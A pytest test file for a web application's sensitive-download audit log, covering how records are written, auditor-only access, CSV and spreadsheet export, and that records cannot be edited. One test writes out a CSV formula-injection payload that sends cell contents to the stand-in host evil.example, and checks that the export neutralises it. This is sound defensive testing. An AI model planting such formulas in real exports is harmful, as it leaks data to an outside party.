"""The download audit log: one record per sensitive download, read only by auditors.

An auditor is anyone in a group holding `resources.view_sensitivedownload` as well
as admin access (the demo's Auditors group). Editors, even superusers' helpers with
every document permission, do not see the report unless given that permission.
"""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group, Permission
from django.test import Client
from django.utils import timezone

from accounts.testing import login_with_mfa
from resources.models import SensitiveDownload

from .editors import admin_fixture, editor_fixture  # noqa: F401

REPORT = "/admin/reports/sensitive-downloads/"


@pytest.fixture
def auditor(make_user):
    group = Group.objects.create(name="Auditors")
    group.permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_sensitivedownload"),
    )
    user = make_user("audrey@test-valley.example")
    user.groups.add(group)
    return login_with_mfa(Client(), user)


def download(client, resource):
    response = client.get(resource.url)
    if response.status_code == 200:
        b"".join(response.streaming_content)
    return response


# Writing the log.


def test_a_members_sensitive_download_is_recorded_once_with_who_when_which_and_marking(
    client_as, sensitive_resource
):
    before = timezone.now()
    assert download(client_as("member"), sensitive_resource).status_code == 200
    record = SensitiveDownload.objects.get()
    assert before <= record.downloaded_at <= timezone.now()
    assert record.user.email == record.user_email == "member@school.example"
    assert record.user_organisation == "Northbridge Primary"
    assert record.document == sensitive_resource
    assert record.document_title == "Zanzibarquartz operations briefing"
    assert record.marking == "OFFICIAL-SENSITIVE – PARTNERSHIP USE ONLY"


def test_each_download_is_one_record(client_as, sensitive_resource):
    member = client_as("member")
    download(member, sensitive_resource)
    download(member, sensitive_resource)
    assert SensitiveDownload.objects.count() == 2


@pytest.mark.parametrize("persona", ["anonymous", "member"])
def test_a_public_download_is_not_recorded(client_as, persona, public_resource):
    assert download(client_as(persona), public_resource).status_code == 200
    assert not SensitiveDownload.objects.exists()


@pytest.mark.parametrize("persona", ["anonymous", "pending", "other_group"])
def test_a_refused_attempt_is_not_recorded(client_as, persona, sensitive_resource):
    assert download(client_as(persona), sensitive_resource).status_code == 404
    assert not SensitiveDownload.objects.exists()


def test_a_wrong_filename_is_not_recorded(client_as, sensitive_resource):
    url = sensitive_resource.url.replace("briefing", "other")
    assert client_as("member").get(url).status_code == 404
    assert not SensitiveDownload.objects.exists()


def test_the_record_keeps_its_text_when_the_user_and_the_document_are_deleted(
    client_as, sensitive_resource
):
    download(client_as("member"), sensitive_resource)
    record = SensitiveDownload.objects.get()
    record.user.delete()
    sensitive_resource.delete()
    record.refresh_from_db()
    assert record.user is None and record.document is None
    assert record.user_email == "member@school.example"
    assert record.user_organisation == "Northbridge Primary"
    assert record.document_title == "Zanzibarquartz operations briefing"
    assert record.marking == "OFFICIAL-SENSITIVE – PARTNERSHIP USE ONLY"


# Reading it.


@pytest.fixture
def logged(client_as, sensitive_resource):
    download(client_as("member"), sensitive_resource)
    return SensitiveDownload.objects.get()


def test_an_auditor_reads_the_report(auditor, logged):
    response = auditor.get(REPORT)
    assert response.status_code == 200
    html = response.content.decode()
    for text in (
        "Sensitive downloads",
        "member@school.example",
        "Northbridge Primary",
        "Zanzibarquartz operations briefing",
        "OFFICIAL-SENSITIVE – PARTNERSHIP USE ONLY",
    ):
        assert text in html, text


def test_the_csv_export_has_the_headings_and_the_rows(auditor, logged):
    response = auditor.get(REPORT + "?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Downloaded at (UTC)", "Email", "Organisation", "Document", "Marking"]
    assert rows[1][1:] == [
        "member@school.example",
        "Northbridge Primary",
        "Zanzibarquartz operations briefing",
        "OFFICIAL-SENSITIVE – PARTNERSHIP USE ONLY",
    ]
    assert len(rows) == 2


def test_the_csv_export_gives_the_time_in_utc_even_in_british_summer_time(auditor, logged):
    summer = datetime.datetime(2026, 7, 1, 9, 30, 15, 123456, tzinfo=datetime.UTC)
    SensitiveDownload.objects.update(downloaded_at=summer)
    text = b"".join(auditor.get(REPORT + "?export=csv").streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1][0] == "2026-07-01 09:30:15"


def test_the_csv_export_writes_a_formula_typed_at_sign_up_as_text(auditor, logged):
    """The organisation is whatever the person typed when they signed up."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    SensitiveDownload.objects.update(user_organisation=formula, user_email="-1+1@school.example")
    text = b"".join(auditor.get(REPORT + "?export=csv").streaming_content).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[1:3] == ["'-1+1@school.example", "'" + formula]


def test_the_spreadsheet_export_works(auditor, logged):
    response = auditor.get(REPORT + "?export=xlsx")
    assert response.status_code == 200
    assert b"".join(response.streaming_content).startswith(b"PK")


def test_the_menu_item_shows_for_auditors_only(auditor, admin):
    assert REPORT in auditor.get("/admin/").content.decode()
    assert REPORT not in admin.get("/admin/").content.decode()


def test_an_editor_without_the_permission_is_refused_the_report_and_its_export(admin, logged):
    for url in (REPORT, REPORT + "?export=csv", REPORT + "results/"):
        response = admin.get(url)
        assert response.status_code in (302, 403), url
        assert b"Zanzibarquartz" not in response.content


def test_a_signed_in_practitioner_never_reaches_the_report(client, logged):
    client.force_login(logged.user)
    response = client.get(REPORT)
    assert response.status_code in (302, 403)
    assert b"Zanzibarquartz" not in response.content


def test_nobody_can_add_edit_or_delete_records_through_the_admin(auditor, logged):
    codenames = Permission.objects.filter(
        content_type__app_label="resources", content_type__model="sensitivedownload"
    ).values_list("codename", flat=True)
    assert list(codenames) == ["view_sensitivedownload"]
    html = auditor.get(REPORT).content.decode()
    assert f"/{logged.pk}/" not in html
    for url in (
        "/admin/snippets/resources/sensitivedownload/",
        "/admin/snippets/resources/sensitivedownload/add/",
        f"/admin/snippets/resources/sensitivedownload/edit/{logged.pk}/",
        f"/admin/snippets/resources/sensitivedownload/delete/{logged.pk}/",
        f"{REPORT}{logged.pk}/",
    ):
        assert auditor.get(url).status_code == 404, url
    assert auditor.post(REPORT, {"id": logged.pk}).status_code == 405
    assert SensitiveDownload.objects.get() == logged
